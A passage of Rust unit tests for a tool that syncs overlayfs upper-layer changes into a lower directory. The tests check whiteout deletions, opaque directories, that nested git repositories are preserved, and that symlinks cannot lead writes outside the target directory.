            )]
        );
    }

    #[test]
    fn deletions_come_back_but_never_of_a_nested_repo_or_what_you_changed() {
        let c = case();
        let root = rustix::process::geteuid().is_root();
        if !root {
            eprintln!("skipped: whiteouts (as overlayfs makes them) need root to make");
            return;
        }
        assert!(whiteout(&c.upper, "gone.txt"));
        assert!(whiteout(&c.upper, "sub"));
        // `rm -rf dir; mkdir dir; touch dir/y`: an opaque dir.
        write(&c.upper, "dir/y", "y\n");
        rustix::fs::setxattr(
            c.upper.join("dir"),
            "user.overlay.opaque",
            b"y",
            rustix::fs::XattrFlags::empty(),
        )
        .unwrap();
        let (_, r) = run(&c, &Guarded::default());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        assert!(!c.lower.join("gone.txt").exists());
        assert!(!c.lower.join("dir/x").exists());
        assert!(c.lower.join("dir/y").exists());
        assert!(
            c.lower.join("sub/.git/HEAD").exists(),
            "a nested repo of yours stays"
        );
        assert_eq!(r.kept_yours, [(PathBuf::from("sub"), Kept::HoldsVcs)]);
        assert_eq!(
            r.removed,
            [PathBuf::from("dir/x"), PathBuf::from("gone.txt")]
        );
    }

    #[test]
    fn a_link_in_your_dir_never_leads_a_write_out_of_it() {
        let c = case();
        let outside = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(outside.path(), c.lower.join("out")).unwrap();
        write(&c.upper, "out/evil", "x\n");
        let (_, r) = run(&c, &Guarded::default());
        assert!(!outside.path().join("evil").exists());
        assert!(r.failed.is_empty(), "{:?}", r.failed);
        // Whatever the plan, a write under a link fails rather than follow it.
        let r = apply(
            &c.upper,
            &c.lower,
            &c.aside,
            &[Step::Write("out/evil".into())],
        );
        assert!(!outside.path().join("evil").exists());
        assert_eq!(r.failed.len(), 1, "{r:?}");
    }
}
